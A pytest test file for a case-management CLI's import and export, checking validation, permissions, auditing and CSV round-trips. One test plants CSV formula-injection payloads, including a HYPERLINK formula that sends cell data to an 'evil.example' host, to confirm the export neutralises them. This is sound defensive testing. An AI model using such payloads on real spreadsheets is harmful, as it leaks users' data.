"""`haven cases import` / `haven cases export`, run as the real CLI against a SQLite store,
and the CSV mapping of haven.cases.tabular (docs/csv-format.md)."""

import csv
import io
import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from haven.cases import Case, tabular
from haven.cases.tabular import (
    COLUMNS,
    Row,
    case_to_row,
    column_of,
    neutralise,
    read_table,
    row_to_case,
    to_csv,
)
from haven.errors import CaseError

HAVEN = [sys.executable, "-m", "haven"]
PASSWORD = "correct horse battery staple"
# org -> [(user, role)]: created once, copied into a fresh database for every test
USERS = {
    "alpha": [("ann", "case_officer"), ("ari", "case_officer"), ("rita", "researcher")],
    "beta": [("ben", "case_officer")],
}


class Store:
    """A fresh database with the USERS above, and the CLI pointed at it."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.db = root / "h.db"
        self.env = {**os.environ, "HAVEN_DATABASE_URL": f"sqlite:///{self.db}"}
        self.env.pop("HAVEN_DEBUG", None)

    def run(self, *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [*HAVEN, *args],
            input=stdin,
            capture_output=True,
            text=True,
            timeout=180,
            env=self.env,
            cwd=self.root,
        )

    def ok(self, *args: str) -> subprocess.CompletedProcess[str]:
        r = self.run(*args)
        assert r.returncode == 0, r.stderr
        assert "Traceback" not in r.stderr
        return r

    def import_(self, file: Path, org: str, user: str, *extra: str) -> Any:
        return self.run("cases", "import", str(file), "--org", org, "--user", user, *extra)

    def export(self, org: str, user: str, *extra: str) -> str:
        return self.ok("cases", "export", "--org", org, "--user", user, *extra).stdout

    def count(self, org: str) -> int:
        with sqlite3.connect(self.db) as con:
            (n,) = con.execute(
                "SELECT count(*) FROM cases JOIN organisations o ON o.id = cases.org_id"
                " WHERE o.slug = ?",
                (org,),
            ).fetchone()
        return int(n)

    def audited(self, action: str, username: str) -> int:
        with sqlite3.connect(self.db) as con:
            (n,) = con.execute(
                "SELECT count(*) FROM audit_log JOIN users u ON u.id = audit_log.user_id"
                " WHERE audit_log.action = ? AND u.username = ?",
                (action, username),
            ).fetchone()
        return int(n)


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("template")
    store = Store(root)
    for org, users in USERS.items():
        for name, role in users:
            store.ok("users", "add", name, "--role", role, "--org", org, "--password", PASSWORD)
    return store.db


@pytest.fixture
def store(template: Path, tmp_path: Path) -> Store:
    for suffix in ("", "-wal", "-shm"):
        src = template.with_name(template.name + suffix)
        if src.exists():
            shutil.copy(src, tmp_path / ("h.db" + suffix))
    return Store(tmp_path)


@pytest.fixture(scope="module")
def examples(shared: Path) -> Path:
    return shared / "contract" / "examples"


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """`haven generate --n 200 --seed 3`: a larger file."""
    file = tmp_path_factory.mktemp("gen") / "syn-200.jsonl"
    r = subprocess.run(
        [*HAVEN, "generate", "--n", "200", "--seed", "3", "--out", str(file)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert r.returncode == 0, r.stderr
    return file


def lines(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines() if line.strip()]


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def write_csv(path: Path, rows: list[dict[str, str]], header: list[str]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)
    return path


def rejected(r: subprocess.CompletedProcess[str]) -> str:
    assert r.returncode == 2, (r.stdout, r.stderr)
    assert "Traceback" not in r.stderr
    assert "nothing was imported" in r.stderr or "invalid input" in r.stderr
    return r.stderr


# -- import: the three formats ---------------------------------------------------------------


def test_import_jsonl(store: Store, examples: Path) -> None:
    file = examples / "caseload-small.jsonl"
    r = store.ok("cases", "import", str(file), "--org", "alpha", "--user", "ann")
    assert "imported 3 cases" in r.stdout
    assert store.count("alpha") == 3
    assert store.count("beta") == 0
    assert store.audited("case.import", "ann") == 1
    exported = lines(store.export("alpha", "ann"))
    assert exported == lines(file.read_text(encoding="utf-8"))


def test_import_json_array_and_single_case(store: Store, examples: Path, tmp_path: Path) -> None:
    cases = lines((examples / "caseload-small.jsonl").read_text(encoding="utf-8"))
    array = tmp_path / "cases.json"
    array.write_text(json.dumps(cases, indent=2), encoding="utf-8")
    store.ok("cases", "import", str(array), "--org", "alpha", "--user", "ann")
    single = examples / "ru-moscow-2015.json"
    store.ok("cases", "import", str(single), "--org", "alpha", "--user", "ann")
    assert store.count("alpha") == 4
    by_id = {c["id"]: c for c in lines(store.export("alpha", "ann"))}
    assert by_id["EX-RU-1"] == json.loads(single.read_text(encoding="utf-8"))
    assert [by_id[c["id"]] for c in cases] == cases


def test_import_large_generated_file(store: Store, generated: Path) -> None:
    r = store.import_(generated, "alpha", "ann")
    assert r.returncode == 0, r.stderr
    assert store.count("alpha") == 200


CSV_EXAMPLE = (
    "id,nationality,region,sogi,tags,sex,birth_date,cred_identity,cred_nationality,"
    "cred_region,cred_profile,lodged,status,decided,reasons,incidents\r\n"
    "NL-2015-0412,RU,RU-MOW,gay,,male,1988-04-02,credible,credible,credible,credible,"
    '2015-03-02,refused,2015-07-20,internal_relocation;no_state_protection_sought,"[{""date"": '
    '""2014-11-03"", ""kind"": ""threat"", ""actor"": ""non_state"", ""credibility"": '
    '""credible"", ""sought_protection"": false}]"\r\n'
    "NL-2016-0007,IR,,,house_church_member; christian_convert,female,,,,,,2016-05-10,,,,\r\n"
)


def test_import_csv(store: Store, examples: Path, tmp_path: Path) -> None:
    file = tmp_path / "cases.csv"
    file.write_text(CSV_EXAMPLE, encoding="utf-8", newline="")
    r = store.ok("cases", "import", str(file), "--org", "alpha", "--user", "ann")
    assert "imported 2 cases" in r.stdout
    by_id = {c["id"]: c for c in lines(store.export("alpha", "ann"))}
    example = json.loads((examples / "ru-moscow-2015.json").read_text(encoding="utf-8"))
    assert by_id["NL-2015-0412"] == {**example, "id": "NL-2015-0412"}
    # empty cells: null, empty list or the contract's default
    assert by_id["NL-2016-0007"] == {
        "id": "NL-2016-0007",
        "nationality": "IR",
        "region": None,
        "profile": {
            "sogi": [],
            "tags": ["house_church_member", "christian_convert"],
            "sex": "female",
            "birth_date": None,
        },
        "credibility": {
            "identity": "open",
            "nationality": "open",
            "region": "open",
            "profile": "open",
        },
        "incidents": [],
        "procedure": {"lodged": "2016-05-10", "status": "pending", "decided": None, "reasons": []},
    }


def test_import_parquet_with_native_dates(store: Store, examples: Path, tmp_path: Path) -> None:
    """Parquet as Polars writes dates (date32, timestamps) is read, not refused (issue 18)."""
    import polars as pl

    cases = lines((examples / "caseload-small.jsonl").read_text(encoding="utf-8"))
    file = tmp_path / "cases.parquet"
    pl.read_ndjson(examples / "caseload-small.jsonl").with_columns(
        pl.col("procedure").struct.with_fields(
            pl.field("lodged").str.to_date().cast(pl.Datetime("ms")),
            pl.field("decided").str.to_date(),
        )
    ).write_parquet(file)
    r = store.ok("cases", "import", str(file), "--org", "alpha", "--user", "ann")
    assert "imported 3 cases" in r.stdout
    assert lines(store.export("alpha", "ann")) == cases


def test_csv_by_format_option_and_stdin(store: Store) -> None:
    args = ("cases", "import", "-", "--format", "csv", "--org", "alpha", "--user", "ann")
    r = store.run(*args, stdin=CSV_EXAMPLE)
    assert r.returncode == 0, r.stderr
    assert store.count("alpha") == 2


# -- import: rejected rows, nothing written -----------------------------------------------------


def test_one_bad_jsonl_row_among_many_imports_nothing(store: Store, generated: Path) -> None:
    store.ok("cases", "import", str(generated), "--org", "beta", "--user", "ben")
    cases = lines(generated.read_text(encoding="utf-8"))
    n = next(i for i, c in enumerate(cases) if i > 100 and c["incidents"])
    cases[n]["incidents"][0]["date"] = "2015-02-30"
    bad = store.root / "bad.jsonl"
    bad.write_text("".join(json.dumps(c) + "\n" for c in cases), encoding="utf-8")
    before = store.count("alpha")
    err = rejected(store.import_(bad, "alpha", "ann"))
    assert f"line {n + 1}: incidents[0].date: not a date" in err
    assert "rejected 1 of 200 rows; nothing was imported" in err
    assert store.count("alpha") == before == 0
    assert store.count("beta") == 200


def test_bad_rows_in_a_json_array_are_named_by_line(
    store: Store, examples: Path, tmp_path: Path
) -> None:
    cases = lines((examples / "caseload-small.jsonl").read_text(encoding="utf-8"))
    cases[1]["procedure"]["status"] = "lost"
    cases[2]["colour"] = "blue"
    file = tmp_path / "bad.json"
    file.write_text(json.dumps(cases, indent=1), encoding="utf-8")
    starts = [n for n, line in enumerate(file.read_text().splitlines(), 1) if line == " {"]
    err = rejected(store.import_(file, "alpha", "ann"))
    assert f"line {starts[1]}, item [1]: procedure.status: 'lost' is not allowed" in err
    assert f"line {starts[2]}, item [2]: colour: unknown field" in err
    assert "rejected 2 of 3 rows" in err
    assert store.count("alpha") == 0


def test_one_bad_csv_row_among_many_imports_nothing(store: Store, generated: Path) -> None:
    store.ok("cases", "import", str(generated), "--org", "alpha", "--user", "ann")
    rows = csv_rows(store.export("alpha", "ann", "--format", "csv"))
    assert len(rows) == 200
    rows[56]["birth_date"] = "31/12/1999"  # CSV line 58: the header is line 1
    n = next(i for i, r in enumerate(rows) if i > 100 and r["incidents"])
    incidents = json.loads(rows[n]["incidents"])
    incidents[0]["actor"] = "neighbour"
    rows[n]["incidents"] = json.dumps(incidents)
    bad = write_csv(store.root / "bad.csv", rows, list(COLUMNS))
    err = rejected(store.import_(bad, "beta", "ben"))
    assert "line 58, column birth_date (profile.birth_date): not a date" in err
    assert f"line {n + 2}, column incidents (incidents[0].actor): 'neighbour' is not allowed" in err
    assert "rejected 2 of 200 rows; nothing was imported" in err
    assert store.count("beta") == 0


def test_unknown_csv_column(store: Store, tmp_path: Path) -> None:
    file = tmp_path / "cases.csv"
    file.write_text("id,nationality,lodged,colour\r\nX-1,RU,2015-01-01,blue\r\n", encoding="utf-8")
    err = rejected(store.import_(file, "alpha", "ann"))
    assert "line 1, column 'colour': unknown column" in err
    assert store.count("alpha") == 0


def test_csv_cell_problems_name_line_and_column(store: Store, tmp_path: Path) -> None:
    file = tmp_path / "cases.csv"
    file.write_text(
        "id,nationality,lodged,decided,incidents,sogi\r\n"
        "X-1,RU,2015-01-01,,,gay\r\n"
        "X-2,RU,2015-01-01,2014-01-01,,\r\n"
        'X-3,RU,2015-01-01,,"[{""kind"": ",\r\n'
        "X-4,RU,2015-01-01,,,\r\n"
        "X-5,RU,2015-01-01,,,,extra\r\n"
        ",ZZ,,,,gay;straight\r\n",
        encoding="utf-8",
    )
    err = rejected(store.import_(file, "alpha", "ann"))
    assert "line 3, columns lodged, status, decided, reasons (procedure): decided" in err
    assert "line 4, column incidents: not valid JSON" in err
    assert "line 6: the row has 7 cells but the header has 6 columns" in err
    assert "line 7, column id: required field is missing" in err
    assert "line 7, column nationality: 'ZZ' is not an ISO 3166-1" in err
    assert "line 7, column lodged (procedure.lodged): required field is missing" in err
    assert "line 7, column sogi (profile.sogi[1]): 'straight' is not allowed" in err
    assert "rejected 4 of 6 rows" in err
    assert store.count("alpha") == 0


def test_duplicate_id_in_file(store: Store, examples: Path, tmp_path: Path) -> None:
    text = (examples / "caseload-small.jsonl").read_text(encoding="utf-8")
    first = text.splitlines()[0]
    file = tmp_path / "dupes.jsonl"
    file.write_text(text + first + "\n", encoding="utf-8")
    err = rejected(store.import_(file, "alpha", "ann"))
    assert "line 4: id: case id 'EX-1' appears more than once (first at line 1)" in err
    assert store.count("alpha") == 0


def test_id_already_stored_is_a_rejected_row(store: Store, examples: Path, tmp_path: Path) -> None:
    single = examples / "ru-moscow-2015.json"
    store.ok("cases", "import", str(single), "--org", "alpha", "--user", "ann")
    assert store.count("alpha") == 1
    ex = json.loads(single.read_text(encoding="utf-8"))
    text = (examples / "caseload-small.jsonl").read_text(encoding="utf-8") + json.dumps(ex) + "\n"
    file = tmp_path / "mixed.jsonl"
    file.write_text(text, encoding="utf-8")
    err = rejected(store.import_(file, "alpha", "ann"))
    assert "line 4: id: case 'EX-RU-1' already exists in 'alpha' (conflict)" in err
    assert "rejected 1 of 4 rows" in err
    assert "EX-1" not in err  # the new cases are not rejected, only not written
    assert store.count("alpha") == 1
    # another organisation may use the same reference
    r = store.import_(file, "beta", "ben")
    assert r.returncode == 0, r.stderr
    assert store.count("beta") == 4


# -- export ----------------------------------------------------------------------------------


def test_export_jsonl_and_csv(store: Store, generated: Path, tmp_path: Path) -> None:
    store.ok("cases", "import", str(generated), "--org", "alpha", "--user", "ann")
    source = {c["id"]: c for c in lines(generated.read_text(encoding="utf-8"))}
    jsonl = store.export("alpha", "ann")
    assert {c["id"]: c for c in lines(jsonl)} == source
    # exact contract JSON: every line validates strictly and keeps the contract's key order
    for line in jsonl.splitlines():
        assert Case.model_validate_json(line).model_dump_json() == json.dumps(
            json.loads(line), separators=(",", ":")
        )
    out = tmp_path / "export.csv"
    r = store.ok("cases", "export", "--org", "alpha", "--user", "ann", "--out", str(out))
    assert "exported 200 cases" in r.stdout
    text = out.read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(COLUMNS)
    rows = csv_rows(text)
    assert len(rows) == 200
    row = next(r for r in rows if r["id"] == "SYN-0000001")
    case = source["SYN-0000001"]
    assert row["nationality"] == case["nationality"]
    assert row["lodged"] == case["procedure"]["lodged"]
    assert row["sogi"] == ";".join(case["profile"]["sogi"])
    assert row["reasons"] == ";".join(case["procedure"]["reasons"])
    assert json.loads(row["incidents"] or "[]") == case["incidents"]
    assert store.export("alpha", "ann", "--format", "csv") == text


def test_export_shows_only_what_the_user_may_see_and_audits_reads(
    store: Store, examples: Path
) -> None:
    store.ok(
        "cases", "import", str(examples / "caseload-small.jsonl"), "--org", "alpha", "--user", "ann"
    )
    assert len(lines(store.export("alpha", "ann"))) == 3
    assert store.audited("case.read", "ann") == 3
    assert store.export("alpha", "ari") == ""  # another officer: nothing assigned or shared
    assert store.export("beta", "ben") == ""  # another organisation


def test_csv_export_neutralises_formula_injection(store: Store, tmp_path: Path) -> None:
    evil: dict[str, Any] = {
        "id": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "nationality": "RU",
        "region": None,
        "profile": {
            "sogi": ["gay"],
            "tags": ["@SUM(1+1)", "+1", "-2", "'=already", "plain"],
            "sex": None,
            "birth_date": "1988-04-02",
        },
        "credibility": {
            "identity": "credible",
            "nationality": "credible",
            "region": "open",
            "profile": "credible",
        },
        "incidents": [],
        "procedure": {"lodged": "2015-01-01", "status": "pending", "decided": None, "reasons": []},
    }
    others = [{**evil, "id": i} for i in ("+cmd", "-1+1", "@x", "\rcr", "\ttab", "safe-id")]
    file = tmp_path / "evil.jsonl"
    file.write_text("".join(json.dumps(c) + "\n" for c in [evil, *others]), encoding="utf-8")
    # The doors now refuse tags outside the pack's vocabulary and ids with control characters
    # (issue 17), but cases stored before that may hold them: plant them past the doors, so the
    # export still meets them.
    refused = store.import_(file, "alpha", "ann")
    assert (
        refused.returncode == 2 and "unknown tag" in refused.stderr and "U+000D" in refused.stderr
    )
    _plant(store, "ann", [evil, *others])
    back = tmp_path / "evil.csv"  # a file: stdout in text mode would turn \r into \n
    store.export("alpha", "ann", "--out", str(back))
    with back.open(encoding="utf-8", newline="") as f:
        text = f.read()
    rows = {r["id"]: r for r in csv_rows(text)}
    assert set(rows) == {
        "'" + evil["id"],
        "'+cmd",
        "'-1+1",
        "'@x",
        "'\rcr",
        "'\ttab",
        "safe-id",
    }
    row = rows["'" + evil["id"]]
    assert row["tags"] == "'@SUM(1+1);+1;-2;'=already;plain"
    assert row["birth_date"] == "1988-04-02"  # dates are not text cells: no apostrophe
    assert row["lodged"] == "2015-01-01"
    for r in rows.values():  # no cell of any row starts with a formula character
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in r.values())
    # and the CSV reads back to the same cases: the guard apostrophe is removed again (the
    # import itself now refuses these tags and ids, as above)
    table = tabular.read_table(text)
    again = {c.id: c for c in (tabular.row_to_case(table.header, r) for r in table.rows)}
    assert set(again) == {evil["id"], *(c["id"] for c in others)}
    assert list(again[evil["id"]].profile.tags) == evil["profile"]["tags"]
    stored = {c["id"]: c for c in lines(store.export("alpha", "ann"))}
    assert {k: c.model_dump(mode="json") for k, c in again.items()} == stored


def test_round_trip_jsonl_into_another_org(store: Store, generated: Path) -> None:
    store.ok("cases", "import", str(generated), "--org", "alpha", "--user", "ann")
    first = store.export("alpha", "ann", "--out", "alpha.jsonl")
    assert "exported 200 cases" in first
    store.ok("cases", "import", "alpha.jsonl", "--org", "beta", "--user", "ben")
    again = store.export("beta", "ben")
    assert again == (store.root / "alpha.jsonl").read_text(encoding="utf-8")
    assert lines(again) == sorted(
        lines(generated.read_text(encoding="utf-8")), key=lambda c: c["id"]
    )


def test_round_trip_csv_into_another_org(store: Store, generated: Path) -> None:
    store.ok("cases", "import", str(generated), "--org", "alpha", "--user", "ann")
    store.export("alpha", "ann", "--out", "alpha.csv")
    store.ok("cases", "import", "alpha.csv", "--org", "beta", "--user", "ben")
    assert store.export("beta", "ben") == store.export("alpha", "ann")


# -- who may import and export --------------------------------------------------------------


def test_a_researcher_cannot_import_or_export(store: Store, examples: Path) -> None:
    r = store.import_(examples / "caseload-small.jsonl", "alpha", "rita")
    assert r.returncode in (1, 2)
    assert "Traceback" not in r.stderr
    assert "'rita' (role researcher) may not import cases" in r.stderr
    assert store.count("alpha") == 0
    assert store.audited("case.import", "rita") == 1  # the denial is audited
    r = store.run("cases", "export", "--org", "alpha", "--user", "rita")
    assert r.returncode in (1, 2)
    assert "may not export cases" in r.stderr
    assert "Traceback" not in r.stderr
    assert r.stdout == ""


def test_unknown_user_or_org(store: Store, examples: Path) -> None:
    file = examples / "caseload-small.jsonl"
    r = store.import_(file, "alpha", "ben")  # ben is in beta
    assert r.returncode == 2
    assert "--user: no active user 'ben' in 'alpha'" in r.stderr
    r = store.import_(file, "gamma", "ann")
    assert r.returncode == 2
    assert "--org: no organisation 'gamma'" in r.stderr
    r = store.import_(store.root / "missing.jsonl", "alpha", "ann")
    assert r.returncode == 2
    assert "no such file" in r.stderr


# -- the CSV mapping, in process -------------------------------------------------------------


def _case(**changes: Any) -> Case:
    data: dict[str, Any] = {
        "id": "T-1",
        "nationality": "RU",
        "procedure": {"lodged": "2015-01-01"},
        **changes,
    }
    return Case.model_validate_json(json.dumps(data))


def _back(case: Case) -> Case:
    table = read_table(to_csv([case]))
    assert len(table.rows) == 1
    return row_to_case(table.header, table.rows[0])


@pytest.mark.parametrize(
    ("cell", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'x", "'x"),
        ("x=1", "x=1"),
        ("", ""),
        ("2015-01-01", "2015-01-01"),
    ],
)
def test_neutralise(cell: str, guarded: str) -> None:
    assert neutralise(cell) == guarded


@pytest.mark.parametrize(
    "tags",
    [
        [],
        ["uyghur"],
        ["a;b", "c"],
        [" padded "],
        ["[bracket"],
        ["=x", "y"],
        ["'=x"],
        ["'plain"],
        ["ü-ñ"],
    ],
)
def test_csv_round_trips_every_list(tags: list[str]) -> None:
    case = _case(profile={"tags": tags})
    assert _back(case) == case


@pytest.mark.parametrize("ref", ["=cmd", "'=cmd", "''@x", "-", "a,b", 'q"uote', "multi\nline"])
def test_csv_round_trips_free_text_ids(ref: str) -> None:
    case = _case(id=ref)
    assert _back(case) == case
    assert not case_to_row(case)["id"].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_lines_count_multiline_cells() -> None:
    header = "id,nationality,lodged\r\n"
    table = read_table(header + '"a\nb",RU,2015-01-01\r\n\r\nc,RU,2015-01-01\r\n')
    assert [r.line for r in table.rows] == [2, 5]


def test_csv_header_problems() -> None:
    with pytest.raises(CaseError) as e:
        read_table("id,id,sogi\r\n")
    found = [str(p) for p in e.value.problems]
    assert "line 1, column 'id': appears twice (position 2)" in found
    assert "line 1, column 'nationality': required column is missing (nationality)" in found
    assert "line 1, column 'lodged': required column is missing (procedure.lodged)" in found
    with pytest.raises(CaseError, match="input is empty"):
        read_table("")


def test_bom_is_ignored() -> None:
    table = read_table("\ufeffid,nationality,lodged\r\nX,RU,2015-01-01\r\n")
    assert row_to_case(table.header, table.rows[0]).id == "X"


def test_row_of_the_wrong_length() -> None:
    with pytest.raises(CaseError, match="line 9: the row has 2 cells"):
        row_to_case(("id", "nationality", "lodged"), Row(9, ("X", "RU")))


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("id", ("id", "id")),
        ("profile.sogi[1]", ("sogi", "profile.sogi[1]")),
        ("credibility.identity", ("cred_identity", "credibility.identity")),
        ("incidents[2].date", ("incidents", "incidents[2].date")),
        ("procedure", ("lodged, status, decided, reasons", "procedure")),
        ("", ("", "")),
    ],
)
def test_column_of(path: str, expected: tuple[str, str]) -> None:
    assert column_of(path) == expected


def test_columns_cover_the_whole_contract() -> None:
    full = _case(
        region="RU-MOW",
        profile={"sogi": ["gay"], "tags": ["x"], "sex": "male", "birth_date": "1988-04-02"},
        credibility={"identity": "credible"},
        incidents=[{"kind": "threat", "actor": "state"}],
        procedure={
            "lodged": "2015-01-01",
            "status": "refused",
            "decided": "2015-06-01",
            "reasons": ["late_disclosure"],
        },
    )
    assert _back(full) == full
    assert all(cell for cell in case_to_row(full).values())


def test_the_documented_example_parses() -> None:
    doc = (Path(__file__).resolve().parent.parent / "docs" / "csv-format.md").read_text(
        encoding="utf-8"
    )
    block = doc.split("```csv\n", 1)[1].split("```", 1)[0]
    table = read_table(block)
    assert table.header == COLUMNS
    cases = [row_to_case(table.header, row) for row in table.rows]
    assert [c.id for c in cases] == ["NL-2015-0412", "NL-2016-0007"]
    shown = doc.split("```json\n", 1)[1].split("```", 1)[0]
    assert cases[1].model_dump(mode="json") == json.loads(shown)
    # export writes the first row exactly so; the second with its defaults filled in
    assert to_csv(cases).splitlines()[:2] == block.splitlines()[:2]


def test_facts_dated_after_today_are_rejected_rows(
    store: Store, examples: Path, tmp_path: Path
) -> None:
    """Issue 14: the import refuses a date after today, naming the line and field, in JSON
    Lines and CSV alike; nothing is imported."""
    ex = json.loads((examples / "ru-moscow-2015.json").read_text(encoding="utf-8"))
    ex["incidents"][0]["date"] = "2999-01-01"
    text = (examples / "caseload-small.jsonl").read_text(encoding="utf-8") + json.dumps(ex) + "\n"
    file = tmp_path / "future.jsonl"
    file.write_text(text, encoding="utf-8")
    err = rejected(store.import_(file, "alpha", "ann"))
    assert "line 4: incidents[0].date: 2999-01-01 is after today" in err
    assert store.count("alpha") == 0
    csv = tmp_path / "future.csv"
    csv.write_text(CSV_EXAMPLE.replace("2015-07-20", "2999-07-20"), encoding="utf-8", newline="")
    err = rejected(store.import_(csv, "alpha", "ann"))
    assert "line 2: procedure.decided: 2999-07-20 is after today" in err
    assert store.count("alpha") == 0


def _plant(store: Store, username: str, cases: list[dict[str, Any]]) -> None:
    """Store cases through the store itself, as cases stored before the doors' checks were."""
    from sqlalchemy import select

    from haven.store import repo
    from haven.store.db import Database
    from haven.store.models import User

    db = Database(store.env["HAVEN_DATABASE_URL"])
    try:
        with db.session() as s:
            user = s.scalar(select(User).where(User.username == username))
            assert user is not None
            for c in cases:
                repo.create_case(s, repo.Actor.of(user), Case.model_validate_json(json.dumps(c)))
    finally:
        db.engine.dispose()
